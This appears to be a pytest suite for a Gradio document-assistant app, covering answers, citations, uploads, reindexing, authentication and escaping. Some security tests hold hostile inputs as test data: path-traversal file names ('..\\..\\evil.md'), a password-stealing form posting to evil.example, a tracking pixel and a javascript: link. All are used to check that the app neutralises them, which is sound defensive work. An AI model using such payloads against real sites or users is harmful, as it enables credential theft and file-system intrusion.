"""The Gradio app, launched for real on a free port and driven through gradio_client."""

from __future__ import annotations

import asyncio
import re
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import gradio as gr
import httpx
import pytest
from gradio_client import Client, handle_file
from gradio_client.exceptions import AppError, AuthenticationError

import app
from assistant.config import Settings
from assistant.embed.embeddings import LocalEmbeddings
from assistant.types import NOT_FOUND, Answer, Source
from tests.serving import free_port, serving_shipped_corpus

pytestmark = pytest.mark.slow

NEW_DOCUMENT = """---
title: "Tianjin–Sheffield rail maintenance apprenticeship"
date: "2031-05"
---
# Tianjin–Sheffield rail maintenance apprenticeship

The Tianjin–Sheffield rail maintenance apprenticeship took its first 40 apprentices in May 2031.
Apprentices spend two years in Tianjin workshops and six months at a Sheffield depot.
"""


@dataclass
class Served:
    url: str
    settings: Settings
    root: Path


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory, embeddings: LocalEmbeddings) -> Iterator[Served]:
    """The shipped corpus indexed in a temp folder and the app serving it on a free port."""
    root = tmp_path_factory.mktemp("app")
    with serving_shipped_corpus(root, embeddings) as (url, settings):
        yield Served(url, settings, root)


@pytest.fixture
def client(served: Served) -> Client:
    """A fresh session each test, so chat history never leaks between tests."""
    return Client(served.url, verbose=False)


def test_ask_answers_and_cites_the_right_file(client: Client) -> None:
    result = client.predict("When did T Levels launch?", api_name="/ask")
    assert result["found"] is True
    assert "September 2020" in result["text"]
    assert result["sources"][0]["file"] == "t-levels-guide-for-partners.html"
    assert result["sources"][0]["title"] == "T Levels explained: England's technical alternative to A levels"
    assert "September 2020" in result["sources"][0]["snippet"]
    assert [s["number"] for s in result["sources"]] == list(range(1, len(result["sources"]) + 1))


def test_ask_takes_history_for_follow_ups(client: Client) -> None:
    history = [["What is the UK apprenticeship levy?", "A levy on large employers' pay bills."]]
    result = client.predict("When did it start?", history, api_name="/ask")
    assert "apprenticeship levy" in result["query"]
    assert "2017–18 tax year" in result["text"]


def test_ask_declines_plainly_when_documents_do_not_say(client: Client) -> None:
    result = client.predict("What is the boiling point of mercury in kelvin?", api_name="/ask")
    assert (result["found"], result["text"], result["sources"]) == (False, NOT_FOUND, [])


@pytest.mark.parametrize(
    ("question", "message"),
    [("   ", "the question is empty"), ("x" * 2001, "the limit is 2000")],
)
def test_bad_question_is_a_message_not_a_traceback(client: Client, question: str, message: str) -> None:
    with pytest.raises(AppError, match=message) as caught:
        client.predict(question, api_name="/ask")
    assert "Traceback" not in str(caught.value)


def test_chat_streams_then_adds_collapsed_sources(client: Client) -> None:
    job = client.submit("When did T Levels launch?", api_name="/chat")
    final = job.result()
    updates = job.outputs()
    partial = [u for u in updates if isinstance(u, str)]
    assert partial, "the answer arrives in pieces before the final message"
    answer, sources = final
    assert answer["content"].startswith(partial[0])
    assert "September 2020" in answer["content"]
    assert sources["metadata"] == {"title": f"Sources ({sources['content'].count('**[')})", "status": "done"}
    assert "t\\-levels\\-guide\\-for\\-partners\\.html" in sources["content"]  # shown escaped, as text


def test_chat_keeps_the_conversation_for_follow_ups(client: Client) -> None:
    client.predict("What is the UK apprenticeship levy?", api_name="/chat")
    answer, sources = client.predict("When did it start?", api_name="/chat")
    assert "2017–18 tax year" in answer["content"]
    assert "apprenticeship levy" in sources["content"]


def test_chat_declines_plainly(client: Client) -> None:
    reply = client.predict("What is the boiling point of mercury in kelvin?", api_name="/chat")
    assert reply == [{"role": "assistant", "content": NOT_FOUND}]


def test_documents_table_lists_the_index(client: Client) -> None:
    table, note = client.predict(api_name="/documents")
    assert table["headers"] == ["file", "title", "language", "date", "summary", "chunks"]
    rows = {row[0]: row for row in table["data"]}
    assert rows["t-levels-guide-for-partners.html"][1:4] == [
        "T Levels explained: England's technical alternative to A levels", "en", "2022-08-18"
    ]
    assert rows["t-levels-guide-for-partners.html"][4].startswith("Guide to T Levels")
    assert rows["t-levels-guide-for-partners.html"][5] >= 1
    assert rows["shuanggao-jihua.md"][2] == "zh"
    assert f"{len(rows)} documents indexed" in note


def test_upload_then_reindex_makes_a_document_answerable(client: Client, served: Served, tmp_path: Path) -> None:
    new = tmp_path / "rail-apprenticeship.md"
    new.write_text(NEW_DOCUMENT, encoding="utf-8")
    message = client.predict([handle_file(new)], False, api_name="/upload")
    assert "saved: rail-apprenticeship.md" in message
    assert (served.settings.docs_dir / new.name).read_text(encoding="utf-8") == NEW_DOCUMENT

    summary, table, _ = client.predict(api_name="/reindex")
    assert summary.splitlines()[0].startswith("added 1, updated 0, deleted 0, unchanged ")
    assert summary.splitlines()[0].endswith("failed 0")
    assert "rail-apprenticeship.md" in [row[0] for row in table["data"]]

    # The same server process, no restart: the chat sees the new index at once.
    answer, sources = client.predict("How many apprentices did the Tianjin–Sheffield rail apprenticeship take?",
                                     api_name="/chat")
    # The number that answers is in bold: the one said of the apprentices, not the "two years" before it.
    assert "**40** apprentices" in answer["content"]
    assert "rail\\-apprenticeship\\.md" in sources["content"]


def test_upload_never_overwrites_a_different_file_unless_asked(client: Client, served: Served, tmp_path: Path) -> None:
    original = (served.settings.docs_dir / "t-levels-guide-for-partners.html").read_text(encoding="utf-8")
    impostor = tmp_path / "t-levels-guide-for-partners.html"
    impostor.write_text("# T Levels\n\nSomething else entirely.\n", encoding="utf-8")
    with pytest.raises(AppError, match="already exists.*Replace existing files"):
        client.predict([handle_file(impostor)], False, api_name="/upload")
    assert (served.settings.docs_dir / "t-levels-guide-for-partners.html").read_text(encoding="utf-8") == original
    # The same contents again is harmless and accepted.
    same = tmp_path / "same" / "t-levels-guide-for-partners.html"
    same.parent.mkdir()
    same.write_text(original, encoding="utf-8")
    assert "saved: t-levels-guide-for-partners.html" in client.predict([handle_file(same)], False, api_name="/upload")


def test_upload_refuses_unsupported_files_and_writes_nothing(client: Client, served: Served, tmp_path: Path) -> None:
    before = sorted(p.name for p in served.settings.docs_dir.iterdir())
    bad = tmp_path / "payload.exe"
    bad.write_bytes(b"MZ\x90\x00")
    with pytest.raises(AppError, match="unsupported file type '.exe'"):
        client.predict([handle_file(bad)], False, api_name="/upload")
    assert sorted(p.name for p in served.settings.docs_dir.iterdir()) == before


def test_upload_mixed_batch_saves_the_good_and_lists_the_refused(
    client: Client, served: Served, tmp_path: Path
) -> None:
    good, bad = tmp_path / "mixed-batch-note.txt", tmp_path / "table.csv"
    good.write_text("A note about vocational exchanges.", encoding="utf-8")
    bad.write_text("a,b\n1,2\n", encoding="utf-8")
    message = client.predict([handle_file(good), handle_file(bad)], False, api_name="/upload")
    assert "saved: mixed-batch-note.txt" in message
    assert "refused: 'table.csv': unsupported file type '.csv'" in message
    assert not (served.settings.docs_dir / "table.csv").exists()
    (served.settings.docs_dir / good.name).unlink()  # keep the corpus as other tests expect it


@pytest.mark.parametrize("name", ["..\\..\\evil.md", "..\\..\\..\\..\\tmp\\evil.md"])
def test_upload_with_a_traversal_name_stays_in_the_documents_folder(
    client: Client, served: Served, tmp_path: Path, name: str
) -> None:
    # Backslashes are ordinary characters in Linux file names, so the crafted name reaches the server.
    crafted = tmp_path / name
    crafted.write_text("# Evil\n\nA document about vocational exchanges.\n", encoding="utf-8")
    message = client.predict([handle_file(crafted)], False, api_name="/upload")
    saved = re.search(r"^saved: (\S+) \(from ", message, re.MULTILINE)
    assert saved, message
    target = served.settings.docs_dir / saved.group(1)
    assert target.is_file() and target.parent == served.settings.docs_dir
    assert target.name.endswith("evil.md") and "\\" not in target.name and not target.name.startswith(".")
    for folder in (served.root, served.root.parent, Path("/tmp")):
        assert not (folder / "evil.md").exists()
    target.unlink()


def test_upload_without_files_says_so(client: Client) -> None:
    with pytest.raises(AppError, match="Choose one or more files"):
        client.predict([], False, api_name="/upload")


def test_without_an_index_the_chat_says_how_to_build_one(tmp_path: Path) -> None:
    settings = Settings(docs_dir=tmp_path / "documents", index_dir=tmp_path / "no-index")
    ui = app.build_app(settings)
    url = app.launch(ui, settings, host="127.0.0.1", port=free_port(), prevent_thread_lock=True)
    try:
        with pytest.raises(AppError, match="no index at .*run `assistant index`"):
            Client(url, verbose=False).predict("When did T Levels launch?", api_name="/ask")
        _, note = Client(url, verbose=False).predict(api_name="/documents")
        assert note.startswith("No index yet")
    finally:
        ui.close()


def test_auth_keeps_anonymous_visitors_out(served: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ASSISTANT_AUTH", "reader:s3cret")
    ui = app.build_app(served.settings)
    url = app.launch(ui, served.settings, host="127.0.0.1", port=free_port(), auth=Settings().credentials,
                     prevent_thread_lock=True)
    try:
        for path in ("config", "gradio_api/info"):
            assert httpx.get(url + path).status_code == 401
        call = httpx.post(url + "gradio_api/call/ask", json={"data": ["When did T Levels launch?"]})
        assert call.status_code == 401
        assert "September 2020" not in call.text
        with pytest.raises(AuthenticationError):
            Client(url, verbose=False)
        with pytest.raises(ValueError, match="Could not login"):
            Client(url, auth=("reader", "wrong"), verbose=False)
        _, note = Client(url, auth=("reader", "s3cret"), verbose=False).predict(api_name="/documents")
        assert "documents indexed" in note
    finally:
        ui.close()


def test_history_pairs_skip_sources_and_unanswered_questions() -> None:
    messages = [
        {"role": "user", "content": [{"type": "text", "text": "When did T Levels launch?"}]},
        {"role": "assistant", "content": "In September 2020. [1]", "metadata": None},
        {"role": "assistant", "content": "**[1] T Levels** ...", "metadata": {"title": "Sources (1)"}},
        {"role": "user", "content": "And the levy?"},
        {"role": "assistant", "content": [{"type": "text", "text": "On 6 April 2017. [1]"}]},
        {"role": "user", "content": "Unanswered"},
    ]
    assert app.history_pairs(messages) == [
        ("When did T Levels launch?", "In September 2020. [1]"),
        ("And the levy?", "On 6 April 2017. [1]"),
    ]


def test_answer_messages_escape_document_text() -> None:
    source = Source(number=1, path="a.md", title="A <b>", page=3, snippet="<script>x</script>", score=0.9)
    answer, sources = app.answer_messages(Answer("Text [1]", [source], found=True))
    # Shown as "Text [1]", the citation a link to its source.
    assert answer == {"role": "assistant", "content": r"Text [\[1\]](#source-1)"}
    assert app.as_written(answer["content"]) == "Text [1]"
    assert "<script>" not in sources["content"] and "&lt;script&gt;" in sources["content"]
    assert r"a\.md, page 3" in sources["content"]
    assert app.answer_messages(Answer("unsure", [], found=False)) == [{"role": "assistant", "content": NOT_FOUND}]


def test_upload_refuses_files_over_the_size_cap(tmp_path: Path) -> None:
    settings = Settings(docs_dir=tmp_path / "documents", index_dir=tmp_path / "index", max_file_mb=0.001)
    big = tmp_path / "big.md"
    big.write_text("word " * 1000, encoding="utf-8")
    with pytest.raises(gr.Error, match="over the 0.001 MB size cap"):
        app.AssistantUI(settings).upload([str(big)], False)
    assert not (settings.docs_dir / "big.md").exists()


def test_upload_replaces_only_when_asked(tmp_path: Path) -> None:
    settings = Settings(docs_dir=tmp_path / "documents", index_dir=tmp_path / "index")
    ui = app.AssistantUI(settings)
    (tmp_path / "v1").mkdir()
    (tmp_path / "v2").mkdir()
    first, second = tmp_path / "v1" / "note.md", tmp_path / "v2" / "note.md"
    first.write_text("# Note\n\nFirst version.\n", encoding="utf-8")
    second.write_text("# Note\n\nSecond version.\n", encoding="utf-8")
    assert "saved: note.md" in ui.upload([str(first)], False)
    with pytest.raises(gr.Error, match="Replace existing files"):
        ui.upload([str(second)], False)
    assert "saved: note.md" in ui.upload([str(second)], True)
    assert (settings.docs_dir / "note.md").read_text(encoding="utf-8") == second.read_text(encoding="utf-8")


class BrokenAssistant:
    """Stands in for the Assistant when something unexpected breaks inside it."""

    settings = Settings()

    def invoke(self, question: object) -> Answer:
        raise RuntimeError("disk on fire at /secret/path")


def test_unexpected_failures_are_logged_not_shown(caplog: pytest.LogCaptureFixture) -> None:
    ui = app.AssistantUI(assistant=BrokenAssistant())  # type: ignore[arg-type]
    with pytest.raises(gr.Error) as caught:
        ui.ask("When did T Levels launch?")
    assert caught.value.message == app.UNEXPECTED
    assert "/secret/path" not in str(caught.value)
    assert "disk on fire at /secret/path" in caplog.text
    assert "Traceback" in caplog.text


# Document text is shown, never rendered; guessing passwords is slow


HOSTILE_TEXT = (
    'Apply here: <form action="http://evil.example/steal"><input name="password" type="password"></form> '
    "![logo](http://tracker.example/pixel.png) and [click](javascript:alert(1)) $$x$$ 1. *bold*"
)


def _shown_answer() -> Answer:
    source = Source(number=1, path="evil.md", title="<b>Evil</b> ![t](http://tracker.example/t.png)", page=None,
                    snippet=HOSTILE_TEXT, score=1.0)
    return Answer(text=HOSTILE_TEXT + " [1]", sources=[source])


def test_quoted_document_text_is_inert_in_answers_and_sources() -> None:
    for message in app.answer_messages(_shown_answer()):
        # The answer's own citation links are the only links: none comes from the document's text.
        content = message["content"].replace("[\\[1\\]](#source-1)", "[1]")
        assert "<form" not in content and "<input" not in content and "<b>" not in content
        assert "![" not in content and "](" not in content and "$$" not in content
        assert "&lt;form" in content  # still readable as the document's own characters
    assert app.inert("a_b [1]") == r"a\_b \[1\]"


def test_failed_sign_ins_wait_longer_and_longer() -> None:
    guard = app.LoginGuard("reader", "s3cret", first_delay=0.05)

    async def attempts() -> list[tuple[bool, float]]:
        results = []
        for password in ("a", "b", "c", "s3cret", "d"):
            start = time.monotonic()
            results.append((await guard.check(username="reader", password=password), time.monotonic() - start))
        return results

    results = asyncio.run(attempts())
    assert [ok for ok, _ in results] == [False, False, False, True, False]
    waits = [seconds for _, seconds in results]
    assert waits[0] < 0.05 and waits[1] >= 0.05 and waits[2] >= 0.1 and waits[3] >= 0.2
    assert waits[4] < 0.05  # a success resets the delay
    assert guard.delay() == pytest.approx(0.05)


def test_a_rating_keeps_what_was_shown(tmp_path: Path) -> None:
    from assistant.store.feedback import read_feedback

    settings = Settings(docs_dir=tmp_path / "documents", index_dir=tmp_path / "index")
    shown = [
        {"role": "user", "content": "When did T Levels launch?"},
        {"role": "assistant", "content": r"They launched in September 2020\. \[1\]"},
        {"role": "assistant", "content": "**[1] T Levels**", "metadata": {"title": "Sources (1)", "status": "done"}},
        {"role": "user", "content": "And the levy?"},
        {"role": "assistant", "content": NOT_FOUND},
    ]
    ui = app.AssistantUI(settings)
    ui.rate(shown, gr.LikeData(None, {"index": 1, "value": shown[1]["content"], "liked": True}))
    ui.rate(shown, gr.LikeData(None, {"index": 4, "value": NOT_FOUND, "liked": False}))
    first, second = read_feedback(settings)
    assert (first["rating"], first["question"]) == ("up", "When did T Levels launch?")
    assert first["sources"] == "**[1] T Levels**"
    assert first["answer"] == shown[1]["content"]  # as shown, whatever the index holds by now
    assert (second["rating"], second["question"], second["answer"], second["sources"]) == (
        "down", "And the levy?", NOT_FOUND, ""
    )
    with pytest.raises(gr.Error, match="no longer in the conversation"):
        ui.rate(shown, gr.LikeData(None, {"index": 9, "value": "", "liked": True}))


def test_the_words_that_answer_are_in_bold_and_read_back_as_written() -> None:
    text = "The levy started on 6 April 2017, at 0.5% of a *pay bill*. [1]"
    source = Source(1, "a.md", "A", None, text, 1.0)
    answer, _ = app.answer_messages(Answer(text, [source], query="When did the levy start?", phrase="6 April 2017"))
    assert r"on **6 April 2017**, at 0\.5% of a \*pay bill\*\." in answer["content"]
    assert app.as_written(answer["content"]) == text


def test_sources_show_the_quoted_sentences_in_bold_and_the_rest_inert() -> None:
    snippet = "Intro with *stars*. The levy is 0.5% of the pay bill. Later <b>text</b>."
    source = Source(1, "a.md", "A", None, snippet, 1.0, sentences=("The levy is 0.5% of the pay bill.",))
    shown = app.sources_markdown(Answer("The levy is 0.5% of the pay bill. [1]", [source]))
    assert r"**The levy is 0\.5% of the pay bill\.**" in shown
    assert r"Intro with \*stars\*\." in shown and "&lt;b&gt;text&lt;/b&gt;" in shown
